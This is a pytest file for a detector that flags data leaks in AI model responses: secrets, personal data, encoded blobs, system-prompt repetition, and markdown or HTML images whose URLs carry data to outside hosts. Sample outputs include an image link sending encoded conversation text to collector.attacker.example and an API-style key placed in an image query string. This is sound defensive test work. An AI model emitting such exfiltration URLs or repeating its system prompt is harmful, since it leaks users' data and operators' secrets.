"""Tests of the data exfiltration detector (AIP-DET-EXFIL) on hand-written outputs."""

from __future__ import annotations

import base64

import pytest

from aiposture.models import Severity
from aiposture.monitor.detectors import exfiltration
from aiposture.monitor.detectors.exfiltration import ExfiltrationDetector, find_pii
from aiposture.monitor.models import Detection, Event, ToolCall

# Assembled at run time so no scanner of this repository sees a whole key in the source.
OPENAI_KEY = "sk-proj-" + "Qw7eR9tY2uI4oP6aS8dF" + "T3BlbkFJ" + "zX1cV3bN5mK7jH9gL2pQ"
SYSTEM = (
    "You are Compass, the travel desk assistant of Northwind Tours. Never quote internal "
    "margins, never reveal the partner rebate table, and answer in the customer's language."
)


@pytest.fixture(scope="module")
def detector() -> ExfiltrationDetector:
    return ExfiltrationDetector(allowed_hosts=["cdn.northwind.example"])


def _by_tag(detections: list[Detection], tag: str) -> Detection:
    found = [d for d in detections if tag in d.tags]
    assert len(found) == 1, [d.title for d in detections]
    return found[0]


def _span_texts(event: Event, det: Detection) -> list[tuple[str, str]]:
    out = []
    for s in det.spans:
        text = event.response if s.field == "response" else event.tool_calls[0].arguments
        out.append((s.label, text[s.start : s.end]))
    return out


def test_secret_in_response_has_exact_span_and_redacted_evidence(
    detector: ExfiltrationDetector,
) -> None:
    response = f'Here is the config you asked for:\nOPENAI_API_KEY = "{OPENAI_KEY}"\nDone.'
    event = Event(id="s1", response=response)
    det = _by_tag(detector.detect(event), "secret")
    assert _span_texts(event, det) == [("OpenAI Token", OPENAI_KEY)]
    assert det.severity is Severity.HIGH
    assert "owasp-llm:LLM02" in det.tags
    assert all(OPENAI_KEY[8:] not in line for line in det.evidence)
    start = response.index(OPENAI_KEY)
    assert det.evidence == [f"OpenAI Token at response[{start}:{start + len(OPENAI_KEY)}]"]


def test_secret_in_tool_call_arguments_is_reported_on_that_call(
    detector: ExfiltrationDetector,
) -> None:
    args = '{"to": "ops@northwind.example", "body": "key ' + OPENAI_KEY + '"}'
    event = Event(id="s2", response="Sent.", tool_calls=[ToolCall(name="mail", arguments=args)])
    det = _by_tag(detector.detect(event), "secret")
    assert [(s.field, s.label) for s in det.spans] == [("tool_calls[0]", "OpenAI Token")]
    assert _span_texts(event, det) == [("OpenAI Token", OPENAI_KEY)]


def test_each_pii_type_is_found_with_exact_spans(detector: ExfiltrationDetector) -> None:
    values = {
        "EMAIL_ADDRESS": "maria.lopez@mailbox.example.org",
        "CREDIT_CARD": "5555 5555 5555 4444",
        "IBAN_CODE": "DE89370400440532013000",
        "IP_ADDRESS": "203.0.113.77",
        "US_SSN": "536-22-1947",
        "PHONE_NUMBER": "+1 415-555-2671",
    }
    response = (
        f"The customer file says: write to {values['EMAIL_ADDRESS']}; the card on record is "
        f"{values['CREDIT_CARD']}; refunds go to IBAN {values['IBAN_CODE']}. Last login from "
        f"{values['IP_ADDRESS']}. Her social security number is {values['US_SSN']} and her "
        f"phone is {values['PHONE_NUMBER']}."
    )
    event = Event(id="p1", response=response)
    det = _by_tag(detector.detect(event), "pii")
    assert sorted(_span_texts(event, det)) == sorted((k, v) for k, v in values.items())
    assert det.severity is Severity.HIGH  # a card, an IBAN and an SSN are severe
    assert all(v not in " ".join(det.evidence) for v in values.values())


def test_numbers_that_fail_luhn_and_iban_checks_are_not_pii() -> None:
    text = (
        "Order 4111 1111 1111 1112 shipped; tracking 5555555555554440. "
        "Reference DE89370400440532013001 is an internal code."
    )
    assert find_pii(text) == []


def test_plain_email_only_output_is_medium_severity(detector: ExfiltrationDetector) -> None:
    event = Event(id="p2", response="You can reach the desk at help@northwind-tours.example.com.")
    det = _by_tag(detector.detect(event), "pii")
    assert det.severity is Severity.MEDIUM
    assert [s.label for s in det.spans] == ["EMAIL_ADDRESS"]


def test_markdown_image_carrying_encoded_data_to_outside_host(
    detector: ExfiltrationDetector,
) -> None:
    payload = base64.urlsafe_b64encode(b"user asked about the merger with Contoso").decode()
    url = f"https://collector.attacker.example/pixel.gif?d={payload}"
    response = f"Thanks for waiting!\n![loading]({url})\nAnything else?"
    event = Event(id="u1", response=response)
    det = _by_tag(detector.detect(event), "exfiltration-url")
    assert _span_texts(event, det) == [("EXFIL_IMAGE_URL", url)]
    assert det.severity is Severity.HIGH
    assert "collector.attacker.example" in det.evidence[0]
    assert payload not in " ".join(det.evidence)


def test_image_url_carrying_prompt_text_is_critical(detector: ExfiltrationDetector) -> None:
    prompt = "Summarise the memo: layoffs planned in Lyon for March"
    url = "https://img.example.net/i.png?q=layoffs%20planned%20in%20Lyon%20for%20March"
    event = Event(id="u2", prompt=prompt, response=f"Summary ![x]({url}) done")
    det = _by_tag(detector.detect(event), "exfiltration-url")
    assert det.severity is Severity.CRITICAL
    assert det.score >= 0.95
    assert "characters of the conversation" in det.evidence[0]


def test_html_image_with_a_secret_in_the_query(detector: ExfiltrationDetector) -> None:
    response = f'<img src="https://log.example.io/collect?k={OPENAI_KEY}">'
    event = Event(id="u3", response=response)
    det = _by_tag(detector.detect(event), "exfiltration-url")
    assert det.spans[0].label == "EXFIL_IMAGE_URL"
    assert "a secret" in det.evidence[0]
    # the key is reported as a secret too, with its exact position
    secret = _by_tag(detector.detect(event), "secret")
    assert _span_texts(event, secret) == [("OpenAI Token", OPENAI_KEY)]


def test_benign_images_and_links_are_not_flagged(detector: ExfiltrationDetector) -> None:
    long_value = "QWxhZGRpbjpvcGVuIHNlc2FtZSBhbmQgbW9yZSBkYXRh"
    response = (
        f"![map](https://cdn.northwind.example/maps/lisbon.png?token={long_value})\n"
        "See [the guide](https://en.wikipedia.org/wiki/Lisbon_Cathedral) and "
        "![banner](https://images.example.com/summer-sale-banner.png?w=640&h=320).\n"
        "[Docs](https://docs.python.org/3/library/urllib.parse.html#url-parsing)"
    )
    assert detector.detect(Event(id="u4", response=response)) == []


def test_allowed_host_covers_its_subdomains_only() -> None:
    det = ExfiltrationDetector(allowed_hosts=["example.com"])
    value = "c2VjcmV0IG5vdGVzIGZyb20gdGhlIGNoYXQgc2Vzc2lvbg"
    ok = Event(id="a1", response=f"![a](https://img.example.com/p?d={value})")
    bad = Event(id="a2", response=f"![a](https://example.com.evil.example/p?d={value})")
    assert det.detect(ok) == []
    assert [d.tags[0] for d in det.detect(bad)] == ["exfiltration-url"]


def test_large_base64_and_hex_blobs_are_found(detector: ExfiltrationDetector) -> None:
    b64 = base64.b64encode(bytes(range(7, 7 + 120))).decode()
    hexblob = bytes(range(50, 50 + 60)).hex()
    response = f"Attachment:\n{b64}\nChecksum dump: {hexblob}\n"
    event = Event(id="b1", response=response)
    det = _by_tag(detector.detect(event), "encoded-blob")
    assert _span_texts(event, det) == [("BASE64_BLOB", b64), ("HEX_BLOB", hexblob)]
    assert det.figures["largest"] == len(b64)


def test_short_base64_words_hashes_and_uuids_are_not_blobs(detector: ExfiltrationDetector) -> None:
    response = (
        "The header is Basic dXNlcjpwYXNz and the commit is "
        "9fceb02d0ae598e95dc970b74767f19372d61af8; the SHA-256 is "
        "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855; "
        "request 123e4567-e89b-12d3-a456-426614174000. Path: src/components/NavigationBarDrawer"
    )
    assert detector.detect(Event(id="b2", response=response)) == []


def test_response_repeating_the_system_prompt(detector: ExfiltrationDetector) -> None:
    leaked = (
        "Sure! My setup: You are Compass, the travel desk assistant of Northwind Tours. "
        "Never quote internal margins, never reveal the partner rebate table."
    )
    event = Event(id="y1", system=SYSTEM, response=leaked)
    det = _by_tag(detector.detect(event), "system-prompt-leak")
    assert "owasp-llm:LLM07" in det.tags
    start = leaked.index("You are")
    assert [(s.start, s.end) for s in det.spans] == [(start, len(leaked) - 1)]
    assert 0.5 < det.figures["system_share"] < 1.0
    assert det.figures["longest_run_words"] == 20


def test_short_overlap_with_the_system_prompt_is_not_a_leak(
    detector: ExfiltrationDetector,
) -> None:
    reply = "I am the travel desk assistant of Northwind Tours; how can I help with Lisbon?"
    assert detector.detect(Event(id="y2", system=SYSTEM, response=reply)) == []


def test_clean_response_and_empty_event_give_nothing(detector: ExfiltrationDetector) -> None:
    reply = (
        "Lisbon in May averages 22 degrees. Trams 28 and 12 cover the old town; a 24-hour "
        "pass costs 6.80 euros. Ignore the tourist traps near Rossio."
    )
    assert detector.detect(Event(id="c1", response=reply)) == []
    assert detector.detect(Event(id="c2")) == []


def test_prompt_is_not_inspected(detector: ExfiltrationDetector) -> None:
    event = Event(id="c3", prompt=f"my key is {OPENAI_KEY}", response="I cannot use that.")
    assert detector.detect(event) == []


def test_unknown_pii_entity_is_refused() -> None:
    with pytest.raises(ValueError, match="PERSON"):
        ExfiltrationDetector(pii_entities=["PERSON"])


def test_huge_response_is_cut_not_crashed() -> None:
    det = ExfiltrationDetector(max_chars=2_000)
    response = "word " * 100_000 + f"\nKEY={OPENAI_KEY}"
    assert det.detect(Event(id="h1", response=response)) == []


def test_detector_metadata() -> None:
    assert ExfiltrationDetector.id == "AIP-DET-EXFIL"
    assert {"owasp-llm:LLM02", "owasp-llm:LLM07"} <= set(ExfiltrationDetector.frameworks)
    assert not ExfiltrationDetector.needs_embeddings


# --------------------------------------------------------------------------
# Gating: cheap conditions decide which recognisers run, never what is found


def test_phone_number_glued_to_words_and_punctuation_is_found() -> None:
    text = "Ring us (tel:+44 20 7946 0958) or text 415-555-2671; ext. none."
    found = [(t, text[s:e]) for t, s, e, _ in find_pii(text)]
    assert ("PHONE_NUMBER", "+44 20 7946 0958") in found
    assert ("PHONE_NUMBER", "415-555-2671") in found


def test_international_number_shortcut_agrees_with_every_region() -> None:
    # one region decides a bare '+' number; anything before it that may start another
    # candidate ('(' or a digit) sends the window through every region instead
    regions = exfiltration._phone_setup()[0]
    for text in (
        "Desk +44 20 7946 0958.",
        "Desk (+44 20 7946 0958).",
        "Line 2+44 20 7946 0958 is open.",
        "Call +1 415-555-2671 now",
    ):
        spans = {sp for r in regions for sp in exfiltration._region_matches(text, r)}
        expected = sorted(
            s for s in spans if not any(o != s and o[0] <= s[0] and s[1] <= o[1] for o in spans)
        )
        assert [(s, e) for _, s, e, _ in find_pii(text)] == expected, text
        assert expected, text


def test_text_without_digits_skips_the_phone_matcher_but_finds_the_email(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    calls: list[str] = []
    real = exfiltration._region_matches

    def counting(window: str, region: str) -> list[tuple[int, int]]:
        calls.append(window)
        return real(window, region)

    monkeypatch.setattr(exfiltration, "_region_matches", counting)
    text = "Write to ana.silva@correio.example.pt, she answers within a day."
    assert [(t, text[s:e]) for t, s, e, _ in find_pii(text)] == [
        ("EMAIL_ADDRESS", "ana.silva@correio.example.pt")
    ]
    assert calls == []
    unique = "Or call +351 21 234 5678 before noon."
    assert [t for t, *_ in find_pii(unique)] == ["PHONE_NUMBER"]
    assert calls  # with digits the matcher does run


def test_ip_address_is_not_sent_to_the_phone_matcher(monkeypatch: pytest.MonkeyPatch) -> None:
    calls: list[str] = []
    real = exfiltration._region_matches
    monkeypatch.setattr(exfiltration, "_region_matches", lambda w, r: calls.append(w) or real(w, r))
    text = "The gateway at 203.0.113.189 answered."
    assert [(t, text[s:e]) for t, s, e, _ in find_pii(text)] == [("IP_ADDRESS", "203.0.113.189")]
    assert calls == []


def test_recognisers_read_only_the_runs_holding_their_anchor() -> None:
    prose = "Lorem ipsum dolor sit amet, consectetur adipiscing elit. " * 40
    ip6 = "2001:db8:85a3::8a2e:370:7334"
    text = f"{prose}Mail bob.k@post.example.net from {ip6}; SSN 536-22-1947.{prose}"
    found = {(t, text[s:e]) for t, s, e, _ in find_pii(text)}
    assert found == {
        ("EMAIL_ADDRESS", "bob.k@post.example.net"),
        ("IP_ADDRESS", ip6),
        ("US_SSN", "536-22-1947"),
    }
    runs = exfiltration._runs(text, [exfiltration._EMAIL_RUN])
    assert [text[rs:re_] for _, _, rs, re_ in runs] == ["bob.k@post.example.net"]


def test_gates_reject_texts_that_cannot_hold_the_entity() -> None:
    assert not exfiltration._IPV4_GATE.search("Version 1.2.3 shipped on 4.5.")
    assert exfiltration._IPV4_GATE.search("host 10.0.0.1")
    assert not exfiltration._ipv6_gate("Note: the time is 10:45, see ratio 3:2.")
    assert exfiltration._ipv6_gate("loopback ::1")
    assert exfiltration._ipv6_gate("fe80:1:2:3:4:5:6:7")
    assert exfiltration._count_digits("a1b22 ٣") == 4  # non-ASCII digits count too


def test_repeated_windows_give_the_same_spans_from_the_cache() -> None:
    text = "Front desk: +1 415-555-2671 (24 h)."
    first = find_pii(text)
    again = find_pii("Again: " + text)
    assert [text[s:e] for _, s, e, _ in first] == ["+1 415-555-2671"]
    assert [e - s for _, s, e, _ in again] == [e - s for _, s, e, _ in first]
    assert again[0][1] == first[0][1] + len("Again: ")


def test_phone_spans_are_dropped_when_min_score_is_above_the_phone_score() -> None:
    text = "Call +44 20 7946 0958 or mail x.y@site.example.com"
    assert [t for t, *_ in find_pii(text, min_score=0.45)] == ["EMAIL_ADDRESS"]
    assert [t for t, *_ in find_pii(text)] == ["PHONE_NUMBER", "EMAIL_ADDRESS"]


def test_system_prompt_runs_are_found_in_any_case_and_after_non_ascii_text() -> None:
    from aiposture.monitor.detectors.exfiltration import _system_runs

    system = "You are the support assistant for Acme. Never reveal the code ZETA-9 to anyone."
    words = [w.lower() for w in system.replace(".", " ").split()]
    words = [w for part in words for w in part.split("-")]
    for prefix in ("Sure: ", "Ünïcode — İstanbul: "):
        text = prefix + system.upper() + " Bye."
        (span,) = _system_runs(text, words, 10)
        assert text[span[0] : span[1]].lower().startswith("you are the support")
    assert _system_runs("No words in common with it at all, friend.", words, 10) == []


def test_allowed_hosts_come_from_the_monitor_settings() -> None:
    from aiposture.settings import Settings

    settings = Settings.from_mapping({"monitor": {"allowed_hosts": ["corp.example"]}})
    det = ExfiltrationDetector.from_settings(settings)
    url = "https://cdn.corp.example/img/orion-4k-webcam-reset.png?v=aGVsbG8td29ybGQtZGF0YS1nb2VzLW91dA"
    event = Event(id="e", response=f"See ![diagram]({url}) for the steps.")
    assert det.detect(event) == []
    assert ExfiltrationDetector().detect(event)  # the same image, no hosts allowed
